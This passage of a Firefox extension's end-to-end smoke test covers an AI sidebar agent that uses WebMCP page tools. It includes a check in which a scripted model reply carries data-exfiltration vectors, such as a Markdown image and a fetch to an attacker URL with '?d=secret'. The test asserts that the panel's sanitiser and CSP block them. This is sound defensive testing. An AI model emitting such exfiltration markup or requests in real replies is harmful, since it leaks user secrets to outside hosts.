        const modelRequests = provider.requests.filter((r) => r.path.endsWith('/models')).length;
        const options = await attack('optionsRequest');
        assert(
          options && (options.answer ?? null) === null && !String(options.error ?? '').startsWith('executeScript'),
          `the options request got ${JSON.stringify(options)}`,
        );
        assert(provider.requests.filter((r) => r.path.endsWith('/models')).length === modelRequests, 'the provider was asked for models');
        await shop.extensionPage.close();
        await shop.page.close();
      },
    );

    await check('the sidebar page shows a reply carrying every exfiltration vector as text, and its CSP refuses loads', async () => {
      const attacker = await startAttackerServer();
      try {
        await run(extensionPage, SAVE_SETTINGS, {
          'settings.mode': 'cloud',
          'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
          'secret.apiKey.openai-compatible': API_KEY,
        });
        // Replies an earlier check left unused (a run parked on a confirmation) must not answer this one.
        provider.reset();
        provider.script({ type: 'reply', text: exfiltrationReply(attacker.url) });
        const shop = await session!.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
        const panel = shop.extensionPage;
        await withPageText(panel, async () => {
          await waitFor('the panel to list the shop tools', async () => /Tools \(\d+\)/.test(await panelText(panel)), 20_000);
          await sendFromPanel(panel, 'Summarise the page');
          await waitFor('the reply in the panel', async () => (await panelText(panel)).includes(EXFILTRATION_REPLY_LANDMARK), 30_000);
        });
        const fetching = await run<string[]>(
          panel,
          `() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(
            [...document.querySelectorAll('.markdown :is(img, picture, source, video, audio, svg, math, link, meta, style, form, object, embed, iframe, [style], [background], [srcset], [src], [poster])')].map((n) => n.outerHTML),
          ))))`,
        );
        assert(fetching.length === 0, `the reply kept markup that fetches: ${fetching.join(' ')}`);
        const image = await run<string | undefined>(
          panel,
          `(href) => [...document.querySelectorAll('.markdown a')].find((a) => a.getAttribute('href') === href)?.textContent`,
          `${attacker.url}/v/markdown-image?d=secret`,
        );
        assert(image === `${attacker.url}/v/markdown-image?d=secret`, 'the Markdown image is not shown as its address, a link');
        // The CSP on its own, as if markup had slipped through: a fetch and an image to the attacker.
        const refused = await run<{ fetched: string; image: string }>(
          panel,
          `async (base) => ({
            fetched: await fetch(base + '/csp/fetch?d=secret').then(() => 'resolved', () => 'rejected'),
            image: await new Promise((done) => { const img = new Image(); img.onload = () => done('loaded'); img.onerror = () => done('refused'); img.src = base + '/csp/image?d=secret'; }),
          })`,
          attacker.url,
        );
        assert(refused.fetched === 'rejected' && refused.image === 'refused', `the CSP let through ${JSON.stringify(refused)}`);
        assert(attacker.requests.length === 0, `the attacker was asked for ${attacker.requests.join(', ')}`);
        await shop.extensionPage.close();
        await shop.page.close();
      } finally {
        await attacker.close();
      }
    });
    await check('the inspector runs a tool by hand into the timeline, and evals run in the real agent from the sidebar page', async () => {
      await run(extensionPage, SAVE_SETTINGS, {
        'settings.mode': 'cloud',
        'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
        'secret.apiKey.openai-compatible': API_KEY,
        'settings.apiKeyMask.openai-compatible': 'sk-…moke',
      });
      const shop = await session!.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
      const panel = shop.extensionPage;
      await withPageText(panel, async () => {
        await waitFor('the panel to list the shop tools', async () => /Tools \(\d+\)/.test(await panelText(panel)), 20_000);
        // Tools → search_products → Run by hand, as a person would.
        await run(
          panel,
          `() => {
            [...document.querySelectorAll('nav.views button')].find((b) => b.textContent.startsWith('Tools')).click();
          }`,
        );
        await waitFor(
          'the inspector',
          () => run<boolean>(panel, `() => document.querySelectorAll('details.tool-inspect').length > 0`),
          10_000,
        );
        await run(
          panel,
          `() => {
            const tool = [...document.querySelectorAll('details.tool-inspect')].find((d) => d.querySelector('summary code')?.textContent === 'search_products');
            tool.open = true;
            const input = tool.querySelector('input[name="query"]');
            input.value = 'mug';
            input.dispatchEvent(new Event('input', { bubbles: true }));
            tool.querySelector('form.hand-run button[type="submit"]').click();
          }`,
        );
        await waitFor('the hand-run result', async () => /Done\s+in \d+ ms/.test(await panelText(panel)), 20_000);
        await run(panel, `() => [...document.querySelectorAll('nav.views button')].find((b) => b.textContent === 'Develop').click()`);
        await waitFor(
          'the timeline entry',
          () =>
            run<boolean>(
              panel,
              `() => [...document.querySelectorAll('.timeline-entry')].some((e) => e.textContent.includes('By hand') && e.textContent.includes('search_products'))`,
            ),
          10_000,
        );
      });
      // The same evals the Develop view runs, driven through the panel's own runner (as `npm run eval` does).
      provider.reset();
      provider.script(
        { type: 'reply', toolCalls: [{ name: 'search_products', input: { query: 'mug' } }] },
        { type: 'reply', text: 'Yes: the ceramic mug.' },
        { type: 'reply', text: 'I will not look.' },
      );
      const evals = JSON.stringify([
        {
          name: 'mugs',
          messages: [{ role: 'user', type: 'message', content: 'Do you sell mugs?' }],
          expectedCall: [{ functionName: 'search_products' }],
        },
        {
          name: 'cart',
          messages: [{ role: 'user', type: 'message', content: 'What is in my cart?' }],
          expectedCall: [{ functionName: 'get_cart' }],
        },
      ]);
      const outcome = await run<{ ok: boolean; report?: { summary: { passed: number; failed: number }; cases: { outcome: string }[] } }>(
        panel,
        `(args) => globalThis.webmcpAgentEvals.run(args.evals, args.url, { confirm: 'deny' })`,
        { evals, url: `${server.url}/demo/` },
      );
      assert(outcome.ok, `the evals did not run: ${JSON.stringify(outcome)}`);
      const outcomes = outcome.report!.cases.map((c) => c.outcome).join(',');
      assert(outcomes === 'pass,fail', `the evals scored ${outcomes}`);
      await shop.extensionPage.close();
      await shop.page.close();
    });
    await check(
      'the Audit view audits a page in the sidebar: exactly its known problems, its frame and forms, and What the model sees',
      async () => {
        const hotel = await session!.openWithExtensionPage(`${server.url}/audit-problems.html`, 'sidepanel.html');
        const panel = hotel.extensionPage;
        await withPageText(panel, async () => {
          await waitFor('the panel to list the page’s 38 tools', async () => (await panelText(panel)).includes('Tools (38)'), 30_000);
          await run(panel, `() => [...document.querySelectorAll('nav.views button')].find((b) => b.textContent === 'Audit').click()`);
          const summary = await waitFor(
            'the audit',
            async () => (await run<string>(panel, `() => document.querySelector('.audit-summary')?.textContent ?? ''`)) || undefined,
            20_000,
          );
          assert(summary === '38 tools in 2 frames, 3 forms, 0 results: 14 errors, 19 warnings, 5 info', `the audit says "${summary}"`);
          const listed = await run<[string, string][]>(
            panel,
            `() => [...document.querySelectorAll('.finding')].map((f) => [f.dataset.rule, f.dataset.tool])`,
          );
          const key = (pairs: readonly [string, string][]) =>
            pairs
              .map((p) => p.join(' '))
              .sort()
              .join('\n');
          assert(key(listed) === key(AUDIT_PROBLEMS), `the audit found:\n${key(listed)}`);
          await run(
            panel,
            `() => {
            const input = document.getElementById('preview-request');
            input.value = 'Which rooms are free on Friday?';
            input.dispatchEvent(new Event('input', { bubbles: true }));
          }`,
          );
          const figures = await waitFor(
            'What the model sees',
            async () => (await run<string>(panel, `() => document.querySelector('.preview-figures')?.textContent ?? ''`)) || undefined,
            10_000,
          );
          assert(/^8 of 38 tools shown · about \d+ tokens/.test(figures), `the preview says "${figures}"`);
        });
        await hotel.extensionPage.close();
        await hotel.page.close();
      },
    );

    // Firefox's own WebMCP (issue 46): the preferences off in this browser, then a browser for each of the other
    // two configurations.
    const useCloud = (page: Page) => () =>
      run(page, SAVE_SETTINGS, {
        'settings.mode': 'cloud',
        'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
        'secret.apiKey.openai-compatible': API_KEY,
        'settings.apiKeyMask.openai-compatible': 'sk-…moke',
        'settings.sites': [],
      });
    await runFirefoxWebMcpChecks(check, {
      session: session!,
      server,
      provider,
      configuration: 'preferences off',
      useCloud: useCloud(extensionPage),
    });
    await session?.close();
    session = undefined;
    for (const configuration of Object.keys(FIREFOX_WEBMCP_CONFIGURATIONS) as FirefoxWebMcpConfiguration[]) {
      if (configuration === 'preferences off') continue;
      // Held where the finally below closes it, should a check throw.
      const launched: { session?: FirefoxSession } = {};
      await check(`[${configuration}] the extension installs in a Firefox with these preferences`, async () => {
        launched.session = await launchFirefox(undefined, undefined, FIREFOX_WEBMCP_CONFIGURATIONS[configuration]);
      });
      const own = launched.session;
      if (!own) continue;
      session = own;
      // An extension page of this browser, for the settings (cloud mode on the loopback provider).
      const settingsPage = await own.openWithExtensionPage(`${server.url}/plain.html`, 'sidepanel.html');
      await runFirefoxWebMcpChecks(check, {
        session: own,
        server,
        provider,
        configuration,
        useCloud: useCloud(settingsPage.extensionPage),
      });
      await own.close();
      session = undefined;
    }

    // The bridge to desktop agents, in a Firefox of its own (its HOME carries the native-messaging host manifest).
    await runBridgeChecks(check, server);
  } finally {
    await session?.close();
    await server.close();
    await provider.close();
    await modelHost.close();
  }
  return 0;
}

const code = await main().catch((error: unknown) => {
  crashed();
  console.log(`  ✗ firefox smoke crashed: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`);
  return 1;
});
const counted = finish('firefox');
process.exit(code === 0 && counted === 0 ? 0 : 1);
